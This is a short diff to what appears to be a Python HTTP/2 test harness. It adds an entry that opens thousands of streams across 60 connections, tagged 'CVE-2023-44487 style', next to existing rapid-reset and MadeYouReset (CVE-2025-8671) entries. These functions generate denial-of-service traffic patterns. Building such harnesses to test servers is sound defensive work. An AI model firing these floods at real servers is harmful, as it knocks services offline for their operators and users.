@@ -92,6 +92,14 @@ def h2_rapid_reset(cap):
     streams(cap, 15000, lambda s: request(s) + frame(RESET, 0, s, b"\0\0\0\x08"))
 
 
+@h2_entry("thousands of streams in each of many connections",
+          "CVE-2023-44487 style; fewer streams in a connection than max-streams", short=True,
+          proto="http")
+def h2_streams_everywhere(cap):
+    for i in range(60):
+        streams(cap, 4000, lambda s: frame(HEADERS, END_HEADERS, s, b"\x82"), begun=begin(cap, i))
+
+
 @h2_entry("resets by the server, which the client provokes", "CVE-2025-8671, MadeYouReset",
           short=True)
 def h2_made_you_reset(cap):
